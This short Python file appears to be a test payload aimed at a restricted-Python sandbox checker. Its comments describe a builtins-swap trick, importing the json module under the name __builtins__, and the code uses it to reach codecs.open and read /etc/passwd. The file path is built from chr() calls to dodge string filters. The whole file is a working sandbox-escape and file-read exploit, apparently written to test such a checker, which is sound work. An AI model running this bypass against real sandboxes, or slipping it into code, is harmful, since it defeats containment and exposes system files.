# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; json/__init__.py 'import codecs'
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names
# goal: reads /etc/passwd through json's global 'codecs' (codecs.open) by a bare name
import json as __builtins__

def read_text(p):
    return codecs.open(p).read()

path = chr(47) + "etc" + chr(47) + "passwd"
print(read_text(path)[:200])
